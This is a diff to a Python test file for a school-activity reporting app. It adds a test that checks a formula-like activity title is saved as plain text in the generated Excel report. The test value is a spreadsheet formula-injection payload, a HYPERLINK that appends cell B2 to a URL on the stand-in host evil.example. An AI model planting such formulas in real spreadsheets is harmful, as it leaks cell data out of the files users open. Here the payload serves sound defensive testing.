@@ -48,3 +48,17 @@ def test_district_xlsx_counts_schools_per_level_and_tier(gn, submitted):
         ("Tiểu học", 0, 0, 0, 0, 0),
         ("THCS", 2, 0, 0, 1, 1),
     ]
+
+
+FORMULA = '=HYPERLINK("http://evil.example/?x="&B2,"x")'
+
+
+def test_school_report_writes_a_formula_looking_activity_title_as_text(gn, new_activity):
+    new_activity(title=FORMULA)
+
+    data = reports.school_xlsx(gn["movement"], gn["a"])
+
+    sheet = load_workbook(io.BytesIO(data))["Hoạt động"]
+    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value == FORMULA]
+    assert len(cells) == 1
+    assert cells[0].data_type == "s"
